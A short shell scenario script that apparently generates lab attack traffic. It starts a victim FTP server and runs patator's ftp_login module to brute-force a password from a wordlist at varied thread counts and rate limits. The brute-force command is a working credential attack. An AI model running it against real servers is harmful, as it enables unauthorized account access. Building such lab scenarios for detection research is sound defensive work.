# SPDX-License-Identifier: MIT
# label: bruteforce-ftp
# source: lab-patator
# needs: patator
# seconds: 60
# Passwords for ftp by patator, at its own pace or with pauses.
. $lab/victims.sh

servers() {
	victim_ftp d
	words_up 80
}

scenario() {
	_tasks=$(choose 1 4 10)
	_pause=$(choose 0 0 2)
	setting options "-t $_tasks --rate-limit=$_pause"
	# It takes the end of its input for a key and prints without end.
	sleep 60 | attack y d tcp 21 -- timeout 50 patator ftp_login "host=$(addr d)" user=lab \
		password=FILE0 "0=$work/words" -t "$_tasks" "--rate-limit=$_pause" \
		-x ignore:code=530
}
